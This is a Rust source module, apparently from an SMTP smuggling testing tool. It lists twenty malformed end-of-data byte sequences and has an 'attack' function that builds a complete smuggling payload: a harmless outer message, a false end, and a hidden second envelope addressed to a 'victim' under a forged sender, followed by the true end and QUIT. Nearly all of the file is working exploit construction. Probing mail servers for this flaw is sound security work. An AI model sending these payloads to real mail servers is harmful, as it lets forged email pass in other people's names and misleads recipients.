//! SMTP smuggling, as octets: what one server or another takes for the end of a message, with a
//! second envelope behind it.
//!
//! Only CRLF.CRLF ends a message (RFC 5321 section 4.1.1.4). Whoever sees another end obeys what
//! follows, in the name of whoever sent it.

/// A false end of a message, with its name.
#[derive(Clone, Copy, Debug)]
pub struct FalseEnd {
    /// For messages.
    pub name: &'static str,
    /// What stands between a line's last octet and the smuggled envelope.
    pub octets: &'static [u8],
}

/// The false ends that are tried.
pub const FALSE_ENDS: &[FalseEnd] = &[
    end("LF . LF", b"\n.\n"),
    end("LF . CRLF", b"\n.\r\n"),
    end("CRLF . LF", b"\r\n.\n"),
    end("CR . CR", b"\r.\r"),
    end("CR . LF", b"\r.\n"),
    end("CR . CRLF", b"\r.\r\n"),
    end("LF . CR", b"\n.\r"),
    end("CRLF . CR", b"\r\n.\r"),
    end("CRLF . CR CRLF", b"\r\n.\r\r\n"),
    end("CRLF . CR CR LF LF", b"\r\n.\r\r\n\n"),
    end("CR CR LF . CR CR LF", b"\r\r\n.\r\r\n"),
    end("LF CR . LF CR", b"\n\r.\n\r"),
    end("LF CRLF . LF CRLF", b"\n\r\n.\n\r\n"),
    end("CRLF . NUL CRLF", b"\r\n.\0\r\n"),
    end("CRLF NUL . CRLF", b"\r\n\0.\r\n"),
    end("CRLF . CR NUL LF", b"\r\n.\r\0\n"),
    end("CR NUL LF . CRLF", b"\r\0\n.\r\n"),
    end("CRLF . LF NUL", b"\r\n.\n\0"),
    end("NUL LF . NUL LF", b"\0\n.\0\n"),
    end("CRLF . CRLF with NUL between all", b"\r\0\n\0.\0\r\0\n"),
];

const fn end(name: &'static str, octets: &'static [u8]) -> FalseEnd {
    FalseEnd { name, octets }
}

impl FalseEnd {
    /// What is sent after the 354: a message, the false end, a second envelope and message with
    /// the true end, and QUIT. Also gives where the false end begins and where the true one does.
    #[must_use]
    pub fn attack(&self, from: &str, victim: &str) -> (Vec<u8>, usize, usize) {
        let outer = format!("From: {from}\r\nSubject: outer\r\n\r\nharmless");
        let inner = format!(
            "MAIL FROM:<{from}>\r\nRCPT TO:<{victim}>\r\nDATA\r\nFrom: {from}\r\n\
             Subject: smuggled\r\n\r\nevil"
        );
        let octets = [
            outer.as_bytes(),
            self.octets,
            inner.as_bytes(),
            b"\r\n.\r\nQUIT\r\n",
        ];
        let true_end = outer.len() + self.octets.len() + inner.len();
        (octets.concat(), outer.len(), true_end)
    }
}
